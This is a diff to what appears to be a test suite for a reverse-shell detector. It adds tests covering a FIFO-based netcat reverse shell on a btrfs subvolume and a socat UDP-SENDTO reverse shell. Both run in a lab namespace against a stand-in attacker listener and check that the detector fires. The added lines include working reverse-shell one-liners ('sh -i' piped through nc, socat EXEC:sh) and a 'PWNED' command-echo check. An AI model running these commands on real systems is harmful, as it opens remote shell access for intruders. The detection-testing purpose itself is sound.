@@ -16,6 +16,8 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import shutil
+import socket
+import subprocess
 import sys
 import time
 from pathlib import Path
@@ -342,3 +344,67 @@ def test_a_flood_of_shells_does_not_hide_the_next(probe, lab, tmp_path):
     assert corr.cut_short > 0
     [net] = [e for e in got if e.fields["cgroup"] == cg and e.fields["comm"] == "sh"]
     assert net.fields["input_network"] and net.fields["output_network"]
+
+
+# the shell reads the fifo itself: its identity is compared with what the kernel reported
+FIFO_DIRECT = 'rm -f "$2"; mkfifo "$2"; sh -i < "$2" 2>&1 | nc "$0" "$1" > "$2"'
+
+
+@pytest.fixture
+def btrfs_dir(tmp_path):
+    """A btrfs subvolume on a loop image: stat(2)'s st_dev there is the subvolume's own
+    anonymous device, not the superblock's dev_t the kernel reports."""
+    if shutil.which("mkfs.btrfs") is None or shutil.which("btrfs") is None:
+        skip_unsupported("no btrfs-progs (mkfs.btrfs)")
+    img, mnt = tmp_path / "btrfs.img", tmp_path / "btrfs"
+    with open(img, "wb") as f:
+        f.truncate(128 << 20)
+    mnt.mkdir()
+    subprocess.run(["mkfs.btrfs", "-q", str(img)], check=True, capture_output=True)
+    if subprocess.run(["mount", "-o", "loop", str(img), str(mnt)]).returncode:
+        skip_unsupported("cannot mount a btrfs loop image here")
+    try:
+        subprocess.run(["btrfs", "subvolume", "create", str(mnt / "sub")], check=True,
+                       capture_output=True)
+        yield mnt / "sub"
+    finally:
+        subprocess.run(["umount", str(mnt)], check=False)
+
+
+def test_shell_reading_a_fifo_on_btrfs(probe, detector, lab, btrfs_dir):
+    with reverse_shell(lab, FIFO_DIRECT, str(btrfs_dir / "f")) as (cg, listener):
+        nets = shell_network(probe, cg)
+    [net] = [n for n in nets if n.fields["comm"] == "sh"]
+    f = net.fields
+    assert (f["stdin"], f["input_network"], f["output_network"]) == ("fifo", True, True)
+    assert f["input_peer_comm"] == "nc" and f["remote"] == f"{listener.addr}:{listener.port}"
+    assert fired(detector, nets) == {"breach.stdio_network@1"}
+
+
+def test_socat_udp_sendto(probe, detector, lab):
+    """`socat UDP-SENDTO:HOST:PORT EXEC:sh`: socat's UDP socket is never connected
+    (sendto), so /proc/net/udp shows no remote address; it still reaches anyone."""
+    from agent.lab import netns
+    with netns(lab.attacker):
+        srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        srv.bind((lab.addr("attacker"), 0))
+    srv.settimeout(5)
+    with throwaway_cgroup("swa-revsh") as d:
+        proc = run_wiring(lab, d, 'exec socat UDP-SENDTO:"$0":"$1" EXEC:"sh -i",stderr',
+                          lab.addr("attacker"), str(srv.getsockname()[1]))
+        try:
+            _, peer = srv.recvfrom(4096)          # the shell's prompt comes first
+            srv.sendto(b"echo PWNED-$((6*7))\n", peer)
+            got, deadline = b"", time.monotonic() + 5
+            while b"PWNED-42" not in got and time.monotonic() < deadline:
+                got += srv.recvfrom(4096)[0]
+            assert b"PWNED-42" in got
+            nets = shell_network(probe, cgroup_path(d))
+        finally:
+            proc.kill()
+            proc.wait(timeout=10)
+            srv.close()
+    [net] = nets
+    f = net.fields
+    assert (f["stdin"], f["input_peer_comm"], f["remote"]) == ("unix", "socat", "*:0")
+    assert fired(detector, nets) == {"breach.stdio_network@1"}
